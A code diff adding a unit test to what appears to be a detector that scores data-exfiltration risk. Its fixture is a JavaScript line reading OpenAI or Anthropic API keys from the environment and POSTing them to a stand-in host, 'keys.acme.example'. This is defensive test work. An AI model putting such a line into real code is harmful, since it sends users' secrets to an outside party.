@@ -99,6 +99,19 @@ TEST(Flow, WhatWasCopiedElsewhereFirstIsMoved) {
   EXPECT_EQ(deleted("        shutil.copy2(backup, os.devnull)\n"), lost);
 }
 
+TEST(Flow, KeysOfSeveralServicesWeighLessAtTheHostOfOneOfThem) {
+  const auto sent = [](const std::string& host) {
+    return ScaleOf(FactsOf("a.js",
+                           "const key = process.env.OPENAI_API_KEY || process.env.ANTHROPIC_API_KEY;\n"
+                           "fetch('https://" +
+                               host + "/v1', {method: 'POST', body: JSON.stringify({key})});\n"),
+                   "EXFIL-003");
+  };
+  EXPECT_GT(sent("keys.acme.example"), 0.8);
+  EXPECT_GT(sent("api.openai.com"), 0.0);
+  EXPECT_LT(sent("api.openai.com"), 0.5);
+}
+
 TEST(Flow, HooksTakenOutAreWorthALookHooksEmptiedMore) {
   const auto written = [](const std::string& change) {
     return ScaleOf(FactsOf("a.js",
